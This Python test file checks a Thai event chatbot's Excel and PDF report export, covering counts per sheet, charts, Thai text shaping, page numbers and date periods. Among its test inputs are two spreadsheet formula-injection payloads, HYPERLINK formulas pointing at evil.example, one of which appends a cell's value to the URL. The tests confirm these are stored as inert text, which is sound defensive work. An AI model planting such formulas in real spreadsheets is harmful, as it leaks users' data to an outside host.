"""Reports an agency files: `flask --app app report` writes the event's summary as an Excel workbook and a PDF.

An event happens through the real webhook (people register, vote in the chat and in live comments, get a
broadcast, ask what the FAQ cannot answer), then the report is read back as a person would: the workbook's rows
with openpyxl, the PDF's text with pdftotext and its pages as PNG images (pdftoppm) kept under
test-output/reports/ for a person to look at.
"""
from __future__ import annotations

import shutil
import subprocess
import zipfile
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from bot.messenger import simulator
from bot.domain.reports import fonts
from bot.domain.reports.xlsx import HEADER_ROW, display_width
from test_broadcasts import announce, cli, wait_for_state
from test_registration import fill_in
from test_votes import comment, make_poll

ROOT = Path(__file__).resolve().parent.parent
OUTPUT = ROOT / "test-output" / "reports"
TEAM = '=HYPERLINK("http://evil.example/?d="&C2,"Open")'
TYPED_FORMULA = '=HYPERLINK("http://evil.example","ดูผล")'
SHEETS = ["ภาพรวม Summary", "บทบาท Roles", "หัวข้อ Topics", "รายวัน Days", "ทีม Teams", "ประกาศ Broadcasts",
          "โหวต Polls", "คำถาม Questions", "ความเห็น Opinions", "ตอบไม่ได้ FAQ misses"]
NO_DATA = "ไม่มีข้อมูลในช่วงเวลานี้ / Nothing in this period"
POPPLER = shutil.which("pdftoppm") and shutil.which("pdftotext")
THAI_FONT = fonts.find(fonts.THAI_FAMILY)


def hold_an_event(bot) -> int:
    """Three registrations (two in one team, however they typed its name; one team named like a formula), a poll
    with votes in the chat and in a live comment, a broadcast to everyone, three questions the FAQ cannot answer.
    Returns the poll's id."""
    fill_in(bot, "8801", name="สมชาย ใจดี", role="REG:ROLE:student", topic="REG:TOPIC:3", team="ทีมรักษ์โลก")
    bot.tap("8801", "✅ ยืนยัน", "REG:CONFIRM")
    fill_in(bot, "8802", name="สมหญิง รักชาติ", role="REG:ROLE:government", topic="REG:TOPIC:3", team="ทีมรักษ์โลก ")
    bot.tap("8802", "✅ ยืนยัน", "REG:CONFIRM")
    fill_in(bot, "8803", name="Anna Lee", role="REG:ROLE:student", topic="REG:TOPIC:1", team=TEAM)
    bot.tap("8803", "✅ ยืนยัน", "REG:CONFIRM")
    poll_id = make_poll(bot, "--video-id", "777")
    assert cli(bot, "poll", "open", str(poll_id)).exit_code == 0
    bot.tap("8801", "1", f"VOTE:{poll_id}:1")
    bot.tap("8802", "2", f"VOTE:{poll_id}:2")
    bot.tap("8803", "2", f"VOTE:{poll_id}:2")
    bot.webhook.post(simulator.page_body(changes=[comment("c1", "777", "9901", "1")]))
    bot.say("8804", "หวยออกวันไหน")
    bot.say("8805", "หวยออกวันไหน")
    bot.say("8805", TYPED_FORMULA)
    broadcast_id = announce(bot, "--text", "ไลฟ์เริ่มแล้ว ร่วมโหวตได้เลย", "--text-en", "We are live, come and vote")
    assert wait_for_state(bot, broadcast_id)["sent"] == 5  # the five people who wrote to the Page
    bot.wait_idle()
    return poll_id


def data_rows(sheet) -> list[tuple]:
    return [row for row in sheet.iter_rows(min_row=HEADER_ROW + 2, values_only=True)
            if any(v is not None for v in row)]


def test_the_workbook_counts_what_happened_one_sheet_per_part(bot, tmp_path):
    hold_an_event(bot)
    path = tmp_path / "report.xlsx"
    result = cli(bot, "report", "--format", "xlsx", "--output", str(path))
    assert result.exit_code == 0, result.output + result.stderr
    assert f"written to {path}" in result.stderr
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == SHEETS

    summary = {row[1]: row[2] for row in data_rows(book["ภาพรวม Summary"])}
    assert (summary["Registered"], summary["Teams"], summary["Broadcasts"], summary["Broadcast messages sent"],
            summary["Polls"], summary["Votes"], summary["Questions the bot could not answer"]) == (3, 2, 1, 5, 1, 4, 3)
    roles = data_rows(book["บทบาท Roles"])
    assert {r[0]: r[3] for r in roles} == {"citizen": 0, "student": 2, "government": 1, "private": 0, "other": 0}
    assert ("student", "นักเรียน/นักศึกษา", "Student") == roles[1][:3]
    assert abs(roles[1][4] - 2 / 3) < 1e-9  # a share, formatted as a percentage
    assert {r[0]: r[3] for r in data_rows(book["หัวข้อ Topics"])} == {"1": 1, "2": 0, "3": 2, "4": 0}
    days = data_rows(book["รายวัน Days"])
    assert len(days) == 1 and days[0][3] == 3
    assert data_rows(book["ทีม Teams"]) == [("ทีมรักษ์โลก", 2), (TEAM, 1)]

    [sent] = data_rows(book["ประกาศ Broadcasts"])
    assert sent[2:4] == ("ไลฟ์เริ่มแล้ว ร่วมโหวตได้เลย", "We are live, come and vote")
    assert (sent[4], sent[5]) == ("ทุกคน / Everyone", "ส่งเสร็จแล้ว / Finished")
    assert sent[6:11] == (5, 5, 0, 0, 0)  # reach, sent, failed, not sent, pending
    polls = data_rows(book["โหวต Polls"])
    assert [(r[6], r[8], r[9], r[10]) for r in polls] == [("AI Doctor", 1, 1, 2), ("QR ถุงข้าว", 2, 0, 2),
                                                         ("Ocard", 0, 0, 0)]
    assert polls[0][1] == "ทีมไหนควรได้ทุนก่อน" and polls[1][7] == "QR rice bag"
    assert [r[0] for r in data_rows(book["คำถาม Questions"])] == [NO_DATA]
    misses = data_rows(book["ตอบไม่ได้ FAQ misses"])
    assert [(m[0], m[1]) for m in misses] == [("หวยออกวันไหน", 2), (TYPED_FORMULA, 1)]

    # What people typed is text, never a formula (OWASP: spreadsheet formula injection), and reads as typed.
    for sheet, value in (("ทีม Teams", TEAM), ("ตอบไม่ได้ FAQ misses", TYPED_FORMULA)):
        [cell] = [c for row in book[sheet].iter_rows() for c in row if c.value == value]
        assert cell.data_type == "s"
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        assert not any(b"<f>" in archive.read(n) for n in names if n.startswith("xl/worksheets/"))
    # Native charts: one per part with rows (roles, topics, days, teams, broadcasts, the poll, FAQ misses).
    assert len([n for n in names if n.startswith("xl/charts/chart")]) == 7
    roles_sheet = book["บทบาท Roles"]
    assert roles_sheet.freeze_panes == f"A{HEADER_ROW + 2}"  # the heading and the header row stay in view
    # As wide as the Thai reads: the tone and vowel marks above and below take no room of their own.
    width = roles_sheet.column_dimensions["B"].width
    assert display_width("นักเรียน/นักศึกษา") <= width < len("นักเรียน/นักศึกษา") + 2

    with bot.db() as conn:
        audited = conn.execute("SELECT moderator, detail FROM audit_log WHERE action = 'report_export'").fetchall()
    assert [tuple(a) for a in audited] == [("cli", audited[0]["detail"])]
    assert "xlsx" in audited[0]["detail"] and "3 registrations" in audited[0]["detail"] and str(path) in audited[0]["detail"]


@pytest.mark.skipif(not POPPLER, reason="the PDF is read back with poppler-utils: apt-get install poppler-utils")
@pytest.mark.skipif(not THAI_FONT, reason=f"the PDF needs a Thai font: {fonts.INSTALL_HINT}")
def test_the_pdf_prints_thai_as_written_with_charts_and_page_numbers(bot):
    poll_id = hold_an_event(bot)
    OUTPUT.mkdir(parents=True, exist_ok=True)
    path = OUTPUT / "report.pdf"
    result = cli(bot, "report", "--format", "pdf", "--output", str(path))
    assert result.exit_code == 0, result.output + result.stderr
    assert path.read_bytes().startswith(b"%PDF")

    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout
    # Shaped Thai extracts as the same string: stacked marks (ผู้, ที่), sara am (คำ), Thai before English.
    for heading in ("รายงานสรุปกิจกรรม", "ผู้ลงทะเบียนตามบทบาท", "Registrations by role", "ผู้ลงทะเบียนตามหัวข้อ",
                    "ผู้ลงทะเบียนรายวัน", "การประกาศ: ผู้รับและผลการส่ง", "ผลโหวต", "คำถามถึงวิทยากร",
                    "รอบรับฟังความคิดเห็น", "คำถามที่บอทยังตอบไม่ได้ (ที่ถามบ่อยที่สุด)", "สำนักงาน ก.พ.ร.",
                    "นักเรียน/นักศึกษา", "เจ้าหน้าที่รัฐ", "ทีมไหนควรได้ทุนก่อน", "หวยออกวันไหน", "ทีมรักษ์โลก"):
        assert heading in text, heading
    assert text.index("ผู้ลงทะเบียนตามบทบาท") < text.index("Registrations by role")
    pages = int(subprocess.run(["pdfinfo", str(path)], capture_output=True, text=True, check=True).stdout
                .split("Pages:")[1].split()[0]) if shutil.which("pdfinfo") else text.count("\f")
    assert pages >= 2 and f"หน้า 1 จาก {pages}" in text and f"Page {pages} of {pages}" in text
    assert f"#{poll_id} ทีมไหนควรได้ทุนก่อน" in text

    for old in OUTPUT.glob("report-*.png"):
        old.unlink()
    subprocess.run(["pdftoppm", "-r", "90", "-png", str(path), str(OUTPUT / "report")], check=True)
    images = sorted(OUTPUT.glob("report-*.png"))
    assert len(images) == pages and all(image.stat().st_size > 10_000 for image in images)


def test_a_period_counts_only_its_days_and_a_backwards_one_is_refused(bot, tmp_path):
    bot.say("8810", "หวยออกวันไหน")
    path = tmp_path / "july-2020.xlsx"
    result = cli(bot, "report", "--from", "2020-07-17", "--to", "2020-07-25", "--output", str(path))
    assert result.exit_code == 0, result.output + result.stderr
    book = openpyxl.load_workbook(path)
    assert book["ภาพรวม Summary"]["A3"].value.endswith("ช่วงเวลา 17 ก.ค. 2563 ถึง 25 ก.ค. 2563")
    assert book["ภาพรวม Summary"]["A4"].value.endswith("Period: 17 Jul 2020 to 25 Jul 2020")
    assert [r[0] for r in data_rows(book["ตอบไม่ได้ FAQ misses"])] == [NO_DATA]
    assert {r[1]: r[2] for r in data_rows(book["ภาพรวม Summary"])}["Questions the bot could not answer"] == 0

    today = cli(bot, "report", "--output", str(tmp_path / "today.xlsx"))  # default: first record to today
    assert today.exit_code == 0
    assert data_rows(openpyxl.load_workbook(tmp_path / "today.xlsx")["ตอบไม่ได้ FAQ misses"])[0][:2] == ("หวยออกวันไหน", 1)

    assert cli(bot, "report", "--output", "-").stdout_bytes.startswith(b"PK")  # a workbook on standard output

    # Days are Bangkok's: 06:30 on 30 November there is still 29 November in UTC.
    at = datetime(2026, 11, 30, 6, 30, tzinfo=ZoneInfo("Asia/Bangkok")).timestamp()
    with bot.db() as conn:
        conn.execute("UPDATE faq_misses SET at = ?", (at,))
    for day, expected in (("2026-11-29", 0), ("2026-11-30", 1)):
        out = tmp_path / f"{day}.xlsx"
        assert cli(bot, "report", "--from", day, "--to", day, "--output", str(out)).exit_code == 0
        figures = {r[1]: r[2] for r in data_rows(openpyxl.load_workbook(out)["ภาพรวม Summary"])}
        assert figures["Questions the bot could not answer"] == expected, day

    backwards = cli(bot, "report", "--from", "2020-07-25", "--to", "2020-07-17")
    assert backwards.exit_code == 2 and "ends (2020-07-17) before it starts (2020-07-25)" in backwards.stderr
    assert cli(bot, "report", "--from", "17/07/2020").exit_code == 2
    nowhere = cli(bot, "report", "--output", str(tmp_path / "no-such-folder" / "r.xlsx"))
    assert nowhere.exit_code == 1 and "cannot write" in nowhere.stderr and "Traceback" not in nowhere.output
    assert not list(Path.cwd().glob("opengov-report-*"))  # nothing written for a refused period


def test_without_a_thai_font_the_pdf_is_refused_saying_what_to_install(bot, tmp_path, monkeypatch):
    if not shutil.which("fc-match"):
        pytest.skip("fontconfig (fc-match) is not installed")
    config = tmp_path / "no-fonts.conf"
    config.write_text('<?xml version="1.0"?>\n<!DOCTYPE fontconfig SYSTEM "fonts.dtd">\n<fontconfig></fontconfig>\n')
    monkeypatch.setenv("FONTCONFIG_FILE", str(config))  # a machine whose fontconfig knows no fonts
    result = cli(bot, "report", "--format", "pdf", "--output", str(tmp_path / "r.pdf"))
    assert result.exit_code == 1
    assert "needs the Thai font Laksaman" in result.stderr and "apt-get install fonts-thai-tlwg" in result.stderr
    assert not (tmp_path / "r.pdf").exists()
